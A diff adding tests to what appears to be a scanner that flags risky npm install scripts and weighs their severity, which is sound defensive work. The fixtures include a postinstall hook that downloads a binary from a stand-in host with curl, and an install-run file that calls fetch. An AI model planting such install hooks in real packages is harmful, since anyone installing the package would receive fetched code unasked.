@@ -214,6 +214,22 @@ def test_commands_name_the_files_they_run() -> None:
         "tools/c.py",
     )
     assert files_run("echo done") == ()
+    assert files_run("FAST=1 ./a.sh && sudo b.py") == ("./a.sh", "b.py")
+
+
+def test_a_file_that_is_only_handled_is_not_run() -> None:
+    for command in ("chmod +x dist/index.js", "cp a.js b.js", "shx rm -f build/a.js", "cat a.sh"):
+        assert files_run(command) == ()
+    files = package("postinstall", "tsc && chmod +x index.js")
+    files["index.js"] = "fetch(address);\n"
+    assert rules(files) == ["install-script"]
+
+
+def test_a_script_for_checkouts_weighs_less_than_one_of_installations() -> None:
+    files = package("postinstall", "curl -O https://x.example/a.bin")
+    (always,) = found(files)
+    (sometimes,) = found(package("prepare", "curl -O https://x.example/a.bin"))
+    assert (always.severity, sometimes.severity) == (Severity.MEDIUM, Severity.LOW)
 
 
 def test_long_and_odd_commands_end() -> None:
